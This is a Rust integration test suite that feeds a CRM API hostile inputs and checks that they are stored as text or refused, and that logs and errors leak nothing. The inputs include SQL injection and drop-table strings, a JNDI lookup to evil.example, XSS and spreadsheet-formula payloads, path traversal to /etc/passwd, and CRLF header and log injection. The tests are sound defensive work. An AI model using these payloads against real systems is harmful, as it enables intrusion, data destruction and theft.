//! Rows X, L and G: what parsers and logs are fed, and what is where nobody looks.

use super::canaries::{log_into_memory, logged};
use harness::{Firm, Session, TestApp, send};
use reqwest::Method;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use uuid::Uuid;

/// Texts that somebody hopes will be more than text.
const TEXTS: [&str; 18] = [
    "' or 1=1 --",
    "'; drop table crm.clients; --",
    "\" or \"\"=\"",
    "$1",
    "\\'; select pg_sleep(10); --",
    "{{ event.payload.name }}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "=cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "%00%0d%0aset-cookie:a=b",
    "\u{202e}gnp.exe",
    "a\u{200b}b",
    "\u{feff}bom",
    "*:*",
    "a:b\tc",
    "%s%s%n",
];

async fn owner(app: &TestApp) -> (Firm, String) {
    let firm = app.register("Ours").await;
    (firm, app.owner(firm))
}

/// A text is stored as it is or refused by its field; whatever it says, nothing else happens.
#[actix_web::test]
async fn x_09_x_14_x_15_text_is_text_wherever_it_stands() {
    let app = TestApp::new().await;
    let (_, owner) = owner(&app).await;
    let mut stored = vec![];
    for text in TEXTS {
        let created = app.post("/v1/crm/clients", &owner, &json!({ "name": text })).await;
        match created.status {
            201 => stored.push((created.id(), text)),
            status => assert_eq!((status, created.code()), (422, "invalid-input"), "{text:?}: {created:?}"),
        }
    }
    assert!(stored.len() >= 9, "{stored:?}");
    app.project().await;
    for (id, text) in &stored {
        let answer = app.get(&format!("/v1/crm/clients/{id}"), &owner).await;
        assert_eq!(answer.body["name"], *text);
        assert_eq!(answer.headers["content-type"], "application/json");
        assert_eq!(answer.headers["x-content-type-options"], "nosniff");
    }
    // In a filter, an order, a cursor, an id and a header: refused by name, or found to be nobody's.
    for text in TEXTS {
        let word: String = url_encoded(text);
        let found = app.get(&format!("/v1/crm/clients?name={word}"), &owner).await;
        let expected = stored.iter().filter(|(_, other)| *other == text).count();
        assert_eq!((found.status, found.body["data"].as_array().unwrap().len()), (200, expected), "{text:?}");
        for (parameter, code) in
            [("sort", "invalid-parameter"), ("cursor", "invalid-cursor"), ("owner_id", "invalid-parameter")]
        {
            let answer = app.get(&format!("/v1/crm/clients?{parameter}={word}"), &owner).await;
            assert_eq!((answer.status, answer.code()), (400, code), "{parameter}={text:?}");
        }
        assert_eq!(app.get(&format!("/v1/crm/clients/{word}"), &owner).await.status, 404, "{text:?}");
        let name = app.get(&format!("/v1/crm/clients?{word}=1"), &owner).await;
        assert_eq!((name.status, name.code()), (400, "invalid-parameter"), "{text:?}");
    }
    assert_eq!(app.get("/v1/crm/clients?limit=200", &owner).await.body["data"].as_array().unwrap().len(), stored.len());
}

fn url_encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

#[actix_web::test]
async fn x_11_x_12_what_parsers_disagree_on_is_no_json() {
    let app = TestApp::new().await;
    let (_, owner) = owner(&app).await;
    let url = format!("{}/v1/crm/clients", app.commands);
    let many_keys = format!("{{{}}}", (0..20_000).map(|n| format!("\"k{n}\":1")).collect::<Vec<_>>().join(","));
    for (what, body) in [
        ("a key twice", br#"{"name":"a","name":"b"}"#.to_vec()),
        ("a key twice, escaped", br#"{"name":"a","n\u0061me":"b"}"#.to_vec()),
        ("NaN", br#"{"name":NaN}"#.to_vec()),
        ("1e400", br#"{"name":1e400}"#.to_vec()),
        ("a lone surrogate", br#"{"name":"\ud800"}"#.to_vec()),
        ("a byte order mark", b"\xef\xbb\xbf{\"name\":\"a\"}".to_vec()),
        ("UTF-16", b"\xff\xfe{\0}\0".to_vec()),
        ("over-long UTF-8", b"{\"name\":\"\xc0\xaf\"}".to_vec()),
        ("more behind it", br#"{"name":"a"}{"name":"b"}"#.to_vec()),
        ("a comment", br#"{"name":"a"/* b */}"#.to_vec()),
        ("a trailing comma", br#"{"name":"a",}"#.to_vec()),
        ("depth", format!("{}1{}", "[".repeat(100_000), "]".repeat(100_000)).into_bytes()),
        ("depth in a field", format!("{{\"name\":{}1{}}}", "[".repeat(100_000), "]".repeat(100_000)).into_bytes()),
        ("many items", format!("{{\"name\":[{}0]}}", "0,".repeat(400_000)).into_bytes()),
        ("many keys", many_keys.into_bytes()),
    ] {
        let request = app.http.post(&url).bearer_auth(&owner).header("idempotency-key", Uuid::now_v7().to_string());
        let answer = send(request.header("content-type", "application/json").body(body)).await;
        assert!(matches!(answer.status, 400 | 415 | 422), "{what}: {answer:?}");
        // A hundred fields at most are named.
        assert!(answer.text.len() < 20_000, "{what}: the answer is short");
    }
    app.project().await;
    assert_eq!(app.get("/v1/crm/clients", &owner).await.body["data"], json!([]));
}

#[actix_web::test]
async fn x_13_no_line_break_gets_into_a_name_an_address_or_a_header() {
    let app = TestApp::new().await;
    let (_, owner) = owner(&app).await;
    for text in ["Ada\r\nBcc: all@example.com", "Ada\nX: y", "Ada\rX", "Ada\u{85}X"] {
        let invite = json!({ "email": "ada@example.com", "name": text, "roles": [] });
        let answer = app.post("/v1/identity/users", &owner, &invite).await;
        assert_eq!(
            (answer.status, answer.body["errors"][0]["pointer"].as_str()),
            (422, Some("/name")),
            "{text:?}: {answer:?}"
        );
        let email = format!("{}@example.com", text.replace(' ', ""));
        let invite = json!({ "email": email, "name": "Ada", "roles": [] });
        let answer = app.post("/v1/identity/users", &owner, &invite).await;
        assert_eq!(
            (answer.status, answer.body["errors"][0]["pointer"].as_str()),
            (422, Some("/email")),
            "{text:?}: {answer:?}"
        );
    }
}

#[actix_web::test]
async fn x_16_nobody_says_who_acted_when_and_where() {
    let app = TestApp::new().await;
    let (firm, owner) = owner(&app).await;
    let request = app.http.post(format!("{}/v1/crm/clients", app.commands)).bearer_auth(&owner);
    let (forged, trace) = (Uuid::now_v7().to_string(), "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01");
    let request = ["request-id", "x-request-id", "x-correlation-id", "x-user-id", "x-actor", "x-position"]
        .into_iter()
        .fold(request, |request, name| request.header(name, &forged));
    let answer =
        send(request.header("traceparent", trace).header("idempotency-key", "k").json(&json!({ "name": "Ada" }))).await;
    assert_eq!(answer.status, 201, "{answer:?}");
    assert_ne!(answer.headers["request-id"].to_str().unwrap(), forged);
    let event = app.get(&format!("/v1/events/{}", answer.body["position"]), &owner).await.body;
    assert_eq!(event["metadata"]["actor"], json!({ "kind": "user", "id": firm.owner }));
    assert_eq!(event["metadata"]["correlation_id"], answer.headers["request-id"].to_str().unwrap());
    assert!(!event.to_string().contains(&forged), "{event}");
}

/// Row L-04: what travels on with events and lines is ours, or well-formed.
#[actix_web::test]
async fn l_04_a_trace_context_that_is_none_is_ignored() {
    let app = TestApp::new().await;
    let (_, owner) = owner(&app).await;
    for wrong in [
        "x".repeat(7_000),
        "00-0-0-0".into(),
        "' or 1=1".into(),
        format!("00-{}-{}-01", "0".repeat(32), "1".repeat(16)),
    ] {
        let request = app.http.post(format!("{}/v1/crm/clients", app.commands)).bearer_auth(&owner);
        let request = request.header("traceparent", &wrong).header("idempotency-key", Uuid::now_v7().to_string());
        let answer = send(request.json(&json!({ "name": "Ada" }))).await;
        let event = app.get(&format!("/v1/events/{}", answer.body["position"]), &owner).await.body;
        assert_eq!(event["metadata"].get("traceparent"), None, "{wrong}");
    }
}

/// Rows L-03 and A-23: whatever is asked for where nothing is, the answer is a short problem that tells nothing of us.
#[actix_web::test]
async fn l_03_g_02_a_23_what_is_not_there_tells_nothing() {
    let app = TestApp::new().await;
    let (_, owner) = owner(&app).await;
    for path in [
        "/.git/config",
        "/.env",
        "/debug",
        "/admin",
        "/actuator/env",
        "/metrics/x",
        "/v0/crm/clients",
        "/v2/crm/clients",
        "/v1",
        "/v1/",
        "/v1/pg_catalog/pg_class",
        "/v1/eventstore/events",
        "/v1/audit/refusals",
        "/server-status",
        "/v1/crm/clients/",
        "//v1/crm/clients",
        "/v1/crm/clients%2f",
        "/V1/crm/clients",
        "/v1/CRM/clients",
        "/v1/crm/clients.",
        "/v1/crm/clients;a=b",
        "/v1/crm/clients%00",
    ] {
        for base in [&app.commands, &app.queries] {
            for request in [app.http.get(format!("{base}{path}")), app.http.post(format!("{base}{path}"))] {
                let with = send(request.try_clone().unwrap().bearer_auth(&owner)).await;
                let without = send(request).await;
                assert!(matches!(with.status, 400 | 404 | 405), "{base}{path}: {with:?}");
                assert!(matches!(without.status, 400 | 401 | 404 | 405), "{base}{path}: {without:?}");
                for answer in [with, without] {
                    assert_eq!(answer.headers["content-type"], "application/problem+json", "{path}: {answer:?}");
                    let text = answer.text.to_lowercase();
                    for hint in ["postgres", "sqlx", "actix", ".rs:", "panicked", "stack", "ubos_", "select "] {
                        assert!(!text.contains(hint), "{path} tells of {hint}: {text}");
                    }
                }
            }
        }
    }
}

/// Row H-09: what a client library would tidy up first, sent as it is. A path is one of ours or it is not.
#[actix_web::test]
async fn h_09_a_path_is_not_tidied_up_behind_a_proxy() {
    let app = TestApp::new().await;
    let (_, owner) = owner(&app).await;
    assert_eq!(raw(&app, "/v1/crm/clients", Some(&owner)).await, 200);
    for path in [
        "/v1/crm/../crm/clients",
        "/v1/crm/%2e%2e/crm/clients",
        "/v1/./crm/clients",
        "/v1/crm/clients/..",
        "/v1/crm//clients",
        "/../v1/crm/clients",
        "/v1/crm/clients/%2e%2e%2f%2e%2e",
        "/v1\\crm\\clients",
        "/v1/crm/clients/../../../etc/passwd",
        "/v1/crm/%252e%252e/clients",
        "/docs/../v1/crm/clients",
    ] {
        let with = raw(&app, path, Some(&owner)).await;
        assert!(matches!(with, 400 | 404 | 405), "{path}: {with}");
        let without = raw(&app, path, None).await;
        assert!(matches!(without, 400 | 401 | 404 | 405), "{path}: {without}");
    }
}

/// The status of a question whose path goes over the wire letter by letter.
async fn raw(app: &TestApp, path: &str, bearer: Option<&str>) -> u16 {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let address = app.queries.strip_prefix("http://").unwrap();
    let mut connection = tokio::net::TcpStream::connect(address).await.unwrap();
    let authorization = bearer.map(|bearer| format!("authorization: Bearer {bearer}\r\n")).unwrap_or_default();
    let request = format!("GET {path} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n{authorization}\r\n");
    connection.write_all(request.as_bytes()).await.unwrap();
    let mut answer = String::new();
    connection.read_to_string(&mut answer).await.unwrap();
    answer.split(' ').nth(1).and_then(|status| status.parse().ok()).unwrap_or_else(|| panic!("{path}: {answer}"))
}

#[actix_web::test]
async fn g_04_no_answer_names_the_program_that_made_it() {
    let app = TestApp::new().await;
    let (_, owner) = owner(&app).await;
    for answer in [
        app.get("/v1/crm/clients", &owner).await,
        app.get("/nowhere", &owner).await,
        app.post("/v1/crm/clients", &owner, &json!({ "name": "Ada" })).await,
        app.post("/v1/crm/clients", "garbage", &json!({})).await,
    ] {
        for header in ["server", "x-powered-by", "via", "x-aspnet-version", "x-runtime"] {
            assert!(!answer.headers.contains_key(header), "{header}: {answer:?}");
        }
    }
}

#[actix_web::test]
async fn g_05_every_route_is_described_and_every_described_route_is_there() {
    let app = TestApp::new().await;
    let (_, owner) = owner(&app).await;
    let (commands, queries) = (app.orders(), app.questions());
    let ids: BTreeSet<&str> = commands
        .iter()
        .chain(&queries)
        .map(|operation| operation.description["operationId"].as_str().unwrap())
        .collect();
    assert_eq!(ids.len(), commands.len() + queries.len(), "operation ids are unique over both documents");
    for (base, operations) in [(&app.commands, &commands), (&app.queries, &queries)] {
        for operation in operations {
            let path = operation.path.replace("{id}", &Uuid::now_v7().to_string()).replace("{position}", "1");
            let asked = app.http.request(operation.method.clone(), format!("{base}{path}")).bearer_auth(&owner);
            let answer = send(asked.header("idempotency-key", Uuid::now_v7().to_string()).json(&json!({}))).await;
            let nothing = answer.body["detail"]
                .as_str()
                .is_some_and(|detail| detail.starts_with("nothing answers") || detail.starts_with("no command at"));
            assert!(!nothing && answer.status != 405 && answer.status < 500, "{}: {answer:?}", operation.path);
            // Whatever else is asked of the same path is not answered by somebody who is not described.
            for method in [Method::PUT, Method::PATCH, Method::DELETE, Method::from_bytes(b"PROPFIND").unwrap()] {
                let other = send(app.http.request(method.clone(), format!("{base}{path}")).bearer_auth(&owner)).await;
                assert!(matches!(other.status, 404 | 405), "{method} {path}: {other:?}");
            }
        }
    }
    // Every command that the bus knows, and no other, is a route.
    let known: BTreeSet<&str> = app.bus.commands().map(|info| info.entry.name).collect();
    let described: BTreeSet<&str> =
        commands.iter().map(|operation| operation.description["operationId"].as_str().unwrap()).collect();
    assert_eq!(known, described);
}

/// Row T-12: an answer holds what its schema names, and nothing else.
#[actix_web::test]
async fn t_12_no_answer_shows_more_than_its_schema_says() {
    let app = TestApp::new().await;
    let (_, owner) = owner(&app).await;
    let issue = json!({ "name": "Mine", "principal": { "kind": "service_account", "id": Uuid::now_v7() } });
    app.post("/v1/identity/api-keys", &owner, &issue).await;
    app.post("/v1/crm/clients", &owner, &json!({ "name": "Ada" })).await;
    app.project().await;
    for operation in
        app.questions().iter().filter(|operation| !operation.path.contains('{') && !operation.path.ends_with("export"))
    {
        let required = |parameter: &Value| parameter["required"] == true;
        let is_whole = !operation.description["parameters"].as_array().is_some_and(|all| all.iter().any(required));
        let answer = app.get(&operation.path, &owner).await;
        assert_eq!(answer.status == 200, is_whole, "{}: {answer:?}", operation.path);
        if !is_whole {
            continue;
        }
        let schema = &operation.description["responses"]["200"]["content"]["application/json"]["schema"];
        let body = answer.body;
        let (rows, shape) = match &body["data"] {
            Value::Array(rows) => (rows.clone(), &schema["properties"]["data"]["items"]),
            _ => (vec![body], schema),
        };
        let fields = shape["properties"].as_object().unwrap_or_else(|| panic!("{}: {shape}", operation.path));
        for row in rows {
            for field in row.as_object().unwrap().keys() {
                assert!(fields.contains_key(field), "{}: {field}", operation.path);
                assert!(!field.contains("hash") && !field.contains("secret"), "{}: {field}", operation.path);
            }
        }
    }
}

/// Row H-10 and D-04: a parameter twice, and pages as long as somebody likes.
#[actix_web::test]
async fn h_10_d_04_a_parameter_comes_once_and_a_page_ends() {
    let app = TestApp::new().await;
    let (_, owner) = owner(&app).await;
    for operation in app.questions().iter().filter(|operation| !operation.path.contains('{')) {
        for query in
            ["limit=1&limit=2", "limit=1000000000", "limit=-1", "limit=", "offset=5", "page=2", "limit=1;limit=2"]
        {
            let answer = app.get(&format!("{}?{query}", operation.path), &owner).await;
            assert_eq!((answer.status, answer.code()), (400, "invalid-parameter"), "{}?{query}", operation.path);
        }
    }
    let none: Value = app.get("/v1/crm/clients?limit=200", &owner).await.body;
    assert_eq!(none["has_more"], false);
}

/// Rows L-01 and L-02: whatever a request says, a line of the log is one line, and holds nothing to come in with.
#[actix_web::test]
async fn l_01_l_02_a_line_is_a_line_and_holds_no_secret() {
    log_into_memory();
    let app = TestApp::new().await;
    let (firm, owner) = owner(&app).await;
    let issue = json!({ "name": "Mine", "principal": { "kind": "user", "id": firm.owner } });
    let secret = app.post("/v1/identity/api-keys", &owner, &issue).await.body["secret"].as_str().unwrap().to_owned();
    let Session { cookie, csrf } = app.session(firm, firm.owner).await;
    let mark = Uuid::now_v7().simple().to_string();
    for text in [
        "%0d%0a{\"level\":\"ERROR\"}",
        "%1b[2J%1b[31m",
        "%e2%80%ae%e2%80%a8",
        "%22,%22admin%22:true,%22x%22:%22",
        "%00",
    ] {
        let path = format!("/v1/{mark}/{text}").replace(['{', '}', '"', '['], "_");
        for bearer in [owner.as_str(), secret.as_str()] {
            assert_eq!(app.get(&path, bearer).await.status, 404);
            let request = app
                .http
                .post(format!("{}{path}", app.commands))
                .bearer_auth(bearer)
                .header("user-agent", "a\tb\u{202e}");
            assert_eq!(send(request).await.status, 404);
        }
        let request =
            app.http.get(format!("{}{path}", app.queries)).header("cookie", &cookie).header("x-csrf-token", &csrf);
        assert_eq!(send(request).await.status, 404);
        // A secret in a wrong place: in the address, in a text.
        assert!(app.get(&format!("/v1/crm/clients?access_token={secret}"), &owner).await.status == 400);
    }
    let lines = logged();
    assert!(lines.contains(&mark), "the requests were logged");
    for line in lines.lines() {
        let parsed: Value = serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}"));
        assert!(parsed["level"].is_string());
        assert!(!line.chars().any(char::is_control), "{line:?}");
    }
    for hidden in [&owner, &secret, &csrf, &cookie.split_once('=').unwrap().1.to_owned()] {
        assert!(!lines.contains(hidden.as_str()), "a secret was logged");
    }
}
